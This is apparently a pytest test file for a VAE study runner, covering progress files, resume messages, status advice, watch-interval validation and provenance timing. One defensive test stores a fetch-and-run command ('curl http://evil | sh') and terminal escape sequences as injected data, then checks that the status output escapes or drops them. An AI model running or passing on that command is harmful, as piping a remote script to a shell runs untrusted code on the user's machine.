"""Live progress inside tasks: progress files written by the tasks, shown by the runner's line."""

from __future__ import annotations

import io
import math

import pytest

from vaesim.study.run.progress import StageProgress
from vaesim.study.stages import progress as P


def test_task_progress_file_reports_rate_eta_and_disappears(tmp_path, monkeypatch):
    clock = iter([100.0, 100.0, 104.0, 104.0, 108.0, 108.0])
    monkeypatch.setattr(P.time, "monotonic", lambda: next(clock))
    meter = P.TaskProgress(tmp_path, "train/run-a", "beta_vae beta=4 seed 0", 100, done=20, resumed_from=20,
                           interval=0.0)
    meter.update(40, loss=412.25)  # 20 steps in 4 s
    (record,) = P.read_progress(tmp_path)
    assert record["done"] == 40 and record["rate"] == pytest.approx(5.0) and record["eta"] == pytest.approx(12.0)
    assert P.describe(record) == "beta_vae beta=4 seed 0: step 40/100, loss 412.2, 5 steps/s, ETA 12s"
    meter.close()
    assert P.read_progress(tmp_path) == []


def test_progress_writes_are_throttled(tmp_path):
    meter = P.TaskProgress(tmp_path, "extract/x", "extract", 1000, unit="layer", interval=3600.0)
    for done in range(1, 1000):
        meter.update(done)
    assert P.read_progress(tmp_path)[0]["done"] == 0  # only the first write happened
    meter.close()


def test_runner_line_without_a_terminal_is_quiet_and_announces_resumes(tmp_path):
    stream = io.StringIO()  # not a terminal: no bars
    meter = StageProgress(True, tmp_path, stream=stream, quiet_every=3600.0)
    meter.start("train", 8, 2)
    running = P.TaskProgress(tmp_path, "train/run-b", "beta_vae beta=32 seed 1", 800, done=186, resumed_from=186)
    for _ in range(5):
        meter.refresh()
    meter.quiet_every = 0.0
    running.update(200, loss=398.1)
    running._write()
    meter.refresh()
    meter.close()
    lines = stream.getvalue().splitlines()
    assert lines[0] == "train: beta_vae beta=32 seed 1: resuming from step 186"
    assert len(lines) == 3 and lines[1].startswith("train: 2/8 tasks; beta_vae beta=32 seed 1: step 200/800, loss 398.1")
    assert lines[2] == "train: 2/8 tasks done"  # the stage's end, once
    assert "\r" not in stream.getvalue()


def test_train_stage_reports_steps_and_loss_and_the_resume(tmp_path, monkeypatch, tiny_spec):
    from vaesim.study.plan import plan_study
    from vaesim.study.stages import train as train_module
    from vaesim.study.stages.checkpoints import train_config
    from vaesim.training import train

    updates, created = [], []

    class Spy(P.TaskProgress):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            created.append(self.record.copy())

        def update(self, done, **fields):
            updates.append((done, fields.get("loss")))
            super().update(done, **fields)

    monkeypatch.setattr(train_module, "TaskProgress", Spy)
    task = plan_study(tiny_spec).tasks["train"][0]
    run_dir = tmp_path / "runs" / task.run_id

    class Crash(Exception):
        pass

    def crash_at_12(finished):
        if finished == 12:
            raise Crash

    with pytest.raises(Crash):  # a killed run: checkpoints 0 and 10 on disk
        train(train_config(task), run_dir, progress=False, callback=crash_at_12)
    train_module.train_stage(tmp_path, task)
    assert created[0]["resumed_from"] == 10 and created[0]["done"] == 10 and created[0]["total"] == 20
    assert sorted({done for done, _ in updates}) == list(range(11, 21))
    losses = [loss for _, loss in updates]
    first_logged = next(i for i, loss in enumerate(losses) if loss is not None)
    assert all(loss is not None and math.isfinite(loss) for loss in losses[first_logged:])
    from vaesim.training import read_metrics

    assert losses[-1] == pytest.approx(float(read_metrics(run_dir)["loss"].iloc[-1]))
    assert P.read_progress(tmp_path) == []


def test_runner_bar_on_a_terminal_shows_the_running_task(tmp_path):
    class Terminal(io.StringIO):
        def isatty(self):
            return True

    stream = Terminal()
    meter = StageProgress(True, tmp_path, stream=stream)
    meter.start("train", 4, 0)
    running = P.TaskProgress(tmp_path, "train/run-c", "dip_vae_ii lambda_od=10 seed 0", 800, done=0)
    running.update(400, loss=501.5)
    running._write()
    meter.refresh()
    assert "dip_vae_ii lambda_od=10 seed 0: step 400/800, loss 501.5" in meter.bar.postfix
    meter.advance("train/run-x")
    meter.close()
    assert "1/4" in stream.getvalue()


def test_status_recommends_the_command_that_ran_the_study(tmp_path, tiny_spec):
    from vaesim.study import study_status
    from vaesim.study.store.provenance import ProvenanceRecorder

    (tmp_path / "spec.yaml").write_text(tiny_spec.to_yaml())
    fallback = study_status(tmp_path).format()
    assert f"rerun `vaesim study run {tmp_path / 'spec.yaml'} --out {tmp_path}` to resume" in fallback
    ProvenanceRecorder(tmp_path, command=f"vaesim demo --out {tmp_path}")
    assert f"rerun `vaesim demo --out {tmp_path}` to resume" in study_status(tmp_path).format()


def test_status_advice_is_built_from_this_directory_and_stored_text_is_escaped(tmp_path, tiny_spec):
    """Issue 23 item 9: a stored command or failure never reaches the shell advice or the terminal raw."""
    import json

    from vaesim.study import study_status
    from vaesim.study.store.provenance import ProvenanceRecorder

    study = tmp_path / "copied study"
    study.mkdir()
    (study / "spec.yaml").write_text(tiny_spec.to_yaml())
    ProvenanceRecorder(study, command="vaesim study run x.yaml --out /original; curl http://evil | sh")
    (study / "failures.json").write_text(json.dumps([{"task_id": "train/a\x1b[2J", "error": "boom\x1b]0;owned\x07"}]))
    text = study_status(study).format()
    assert f"rerun `vaesim study run '{study}/spec.yaml' --out '{study}'` to resume" in text
    assert "curl" not in text and "/original" not in text
    assert "\x1b" not in text and "\x07" not in text
    assert "train/a\\x1b[2J: boom\\x1b]0;owned\\x07" in text


@pytest.mark.parametrize("content", ["{not json", "[1, 2]", '{"task_id": "x"}'])
def test_status_reports_a_garbage_failures_file_and_carries_on(tmp_path, tiny_spec, content, capsys):
    """Issue 21: a garbage failures.json is reported by `study status`, which still shows every stage."""
    from vaesim.cli import main

    (tmp_path / "spec.yaml").write_text(tiny_spec.to_yaml())
    (tmp_path / "failures.json").write_text(content)
    assert main(["study", "status", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "failures.json" in out and "the next run writes it again" in out
    assert "train    [" in out and "store    [" in out


@pytest.mark.parametrize("watch", ["inf", "nan", "0", "-1"])
def test_status_watch_refuses_an_unusable_interval_in_one_line(tmp_path, tiny_spec, watch, capsys):
    from vaesim.cli import main

    (tmp_path / "spec.yaml").write_text(tiny_spec.to_yaml())
    assert main(["study", "status", str(tmp_path), "--watch", watch]) == 2
    err = capsys.readouterr().err
    assert err.startswith("vaesim: error: --watch: expected a number of seconds") and f"got {float(watch)!r}" in err
    assert len(err.strip().splitlines()) == 1


@pytest.mark.ray
@pytest.mark.slow
def test_progress_of_a_task_on_a_ray_worker_reaches_the_runner(tmp_path, tiny_dict):
    """A training task run by a Ray worker writes the progress the runner's bar reads (run, step, loss, rate)."""
    ray = pytest.importorskip("ray")
    from vaesim.study import parse_spec, plan_study
    from vaesim.study.stages.progress import describe, read_progress
    from vaesim.study.stages.task import run_task

    tiny_dict["training"]["steps"] = 300  # a few seconds of training: long enough to be seen running
    task = plan_study(parse_spec(tiny_dict)).tasks["train"][0]
    ray.init(num_cpus=1, include_dashboard=False, log_to_driver=False)
    try:
        pending = ray.remote(run_task).remote(str(tmp_path), task, 1)
        seen = []
        while not ray.wait([pending], timeout=0.2)[0]:
            seen += [record for record in read_progress(tmp_path) if record["task"] == task.task_id]
        report = ray.get(pending)
    finally:
        ray.shutdown()
    assert report["status"] == "done"
    moving = [record for record in seen if record["done"] > 0 and "loss" in record["fields"]]
    assert moving, f"no progress record with a step and a loss came back from the Ray worker: {seen[:3]}"
    line = describe(moving[-1])
    assert line.startswith(f"{moving[-1]['what']}: step ") and "/300" in line and "loss" in line
    assert not read_progress(tmp_path)  # the worker removes its record when the task ends


def test_runner_line_without_a_terminal_comes_every_interval_even_when_no_task_reports(tmp_path):
    """A stage whose tasks write no progress file (or none yet) still gets its line in a log."""
    stream = io.StringIO()
    meter = StageProgress(True, tmp_path, stream=stream, quiet_every=0.0)
    meter.start("disentangle", 4, 1)
    meter.refresh()
    meter.advance({})
    meter.refresh()
    meter.close()
    assert stream.getvalue().splitlines()[:2] == ["disentangle: 1/4 tasks", "disentangle: 2/4 tasks"]


def test_compare_reports_its_scoring_units_as_they_finish():
    """The engine's scoring is one call: its progress callback moves through every unit, and the scores are
    those of a call without it."""
    import numpy as np

    from vaesim.similarity import compare

    rng = np.random.default_rng(0)
    models = {f"m{k}": {"a": rng.standard_normal((40, 6)), "b": rng.standard_normal((40, 3))} for k in range(3)}
    calls = []
    with_progress = compare(models, metrics=("cka", "procrustes"), block_bytes=4096,
                            progress=lambda done, total: calls.append((done, total)))
    total = calls[-1][1]
    assert [done for done, _ in calls] == list(range(1, total + 1)) and {t for _, t in calls} == {total}
    assert total > 6 + 1  # several Gram row blocks plus one unit per model pair (6 pairs with themselves)
    assert with_progress.equals(compare(models, metrics=("cka", "procrustes"), block_bytes=4096))


def test_status_of_a_copied_study_recommends_resuming_the_copy(tmp_path, tiny_spec):
    import shutil

    from vaesim.study import study_status
    from vaesim.study.store.provenance import ProvenanceRecorder

    original = tmp_path / "original"
    original.mkdir()
    (original / "spec.yaml").write_text(tiny_spec.to_yaml())
    ProvenanceRecorder(original, command=f"vaesim study run quick --out {original}")
    copy = tmp_path / "copy"
    shutil.copytree(original, copy)
    text = study_status(copy).format()
    assert f"rerun `vaesim study run {copy / 'spec.yaml'} --out {copy}` to resume" in text
    assert str(original) not in text
    # the advice is rebuilt from the directory itself, never from the stored command text (issue 23, item 9)
    assert f"rerun `vaesim study run {original / 'spec.yaml'} --out {original}` to resume" in \
        study_status(original).format()


def test_an_interrupted_stage_keeps_its_time_in_provenance(tiny_copy, monkeypatch):
    """A study stopped in a stage (SIGTERM, Ctrl-C) records how long that stage ran and how many tasks it
    finished, so the time a long study spent before an interruption is not missing from its record."""
    import copy
    import json

    from study_tiny import TINY

    from vaesim.study import parse_spec, run_study
    from vaesim.study.run import runner as runner_module

    for path in sorted((tiny_copy / "results").glob("within_run__*.parquet"))[:3]:
        path.unlink()
    original = runner_module._run_stage

    def stopped_in_compare(plan, stage, out_dir, runner, meter, hashes=None):
        if stage != "compare":
            return original(plan, stage, out_dir, runner, meter, hashes)
        plan.tasks["compare"] = [t for t in plan.tasks["compare"] if "within_run" in t.task_id]
        original(plan, stage, out_dir, runner, meter, hashes)  # the 3 missing tables are recomputed
        raise KeyboardInterrupt

    monkeypatch.setattr(runner_module, "_run_stage", stopped_in_compare)
    with pytest.raises(KeyboardInterrupt):
        run_study(parse_spec(copy.deepcopy(TINY)), tiny_copy, progress=False, threads=1)
    session = json.loads((tiny_copy / "provenance.json").read_text())["sessions"][-1]
    assert session["stages"]["compare"]["interrupted"] is True
    assert session["stages"]["compare"]["tasks"] == 3 and session["stages"]["compare"]["seconds"] > 0
    assert "interrupted" not in session["stages"]["extract"] and "disentangle" not in session["stages"]
    from vaesim.report.html import provenance_html

    page = provenance_html(json.loads((tiny_copy / "provenance.json").read_text()), {})
    assert "compare (interrupted)" in page and "extract (interrupted)" not in page
